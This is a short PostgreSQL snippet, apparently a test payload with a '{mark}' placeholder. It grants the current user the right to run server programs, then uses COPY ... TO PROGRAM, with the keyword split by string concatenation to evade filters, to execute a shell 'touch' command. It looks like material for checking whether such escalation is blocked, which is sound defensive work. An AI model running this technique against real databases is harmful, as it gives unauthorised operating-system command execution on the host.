GRANT pg_execute_server_program TO CURRENT_USER;
DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''touch {mark}'''; END $$;
